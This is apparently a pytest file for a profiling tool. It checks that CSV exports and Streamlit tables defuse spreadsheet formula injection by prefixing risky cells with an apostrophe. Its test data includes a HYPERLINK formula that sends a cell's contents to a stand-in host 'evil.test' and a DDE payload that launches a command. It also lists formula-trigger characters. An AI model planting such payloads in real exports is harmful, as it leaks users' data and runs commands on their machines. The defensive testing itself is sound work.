"""A file that somebody sends names its kernels, runs and versions: no spreadsheet runs a name."""

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from profiler_core.report.tables import to_csv
from profiler_core.spreadsheet import harmless
from profiler_core.ui.kernels.table import kernel_csv

UI = Path(__file__).resolve().parents[2] / "profiler_core" / "ui"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("start", STARTS)
def test_no_text_is_a_formula(start):
    """OWASP's list, with the full-width forms that spreadsheets of East Asia take, too."""
    formula = f'{start}HYPERLINK("http://evil.test/?"&A1)'
    assert harmless(formula) == f"'{formula}"
    ((_,), (cell,)) = csv.reader(io.StringIO(to_csv(pl.DataFrame({"a": [formula]})).decode()))
    assert cell.startswith("'")


def test_the_name_of_a_run_is_no_formula_in_the_heads_of_the_kernels():
    formula = "=cmd|'/c calc'!A1"
    (heads,) = csv.reader(io.StringIO(kernel_csv([formula, "eager"], [], [{"k": None}, None])))
    assert len(heads) == 2 + 2 * 5 + 4
    assert not [head for head in heads if head.startswith(STARTS)]


def test_the_menu_of_a_table_writes_no_formula():
    """Streamlit's own "Download as CSV" writes cells as they are, in the browser."""

    def page():
        import streamlit as st

        from profiler_core.ui.table import foreign_text

        st.dataframe(foreign_text({"Who": ["=1+1", "Ada"], "n": [1, 2]}))

    (frame,) = AppTest.from_function(page).run().dataframe
    assert frame.value["Who"].to_list() == ["'=1+1", "Ada"]
    assert frame.value["n"].to_list() == [1, 2]


def test_each_table_of_a_page_goes_that_way():
    tables = [path for path in UI.rglob("*.py") if "st.dataframe(" in path.read_text()]
    assert len(tables) >= 7
    assert [
        path.name
        for path in tables
        if not any(word in path.read_text() for word in ("foreign_text(", "harmless"))
    ] == []
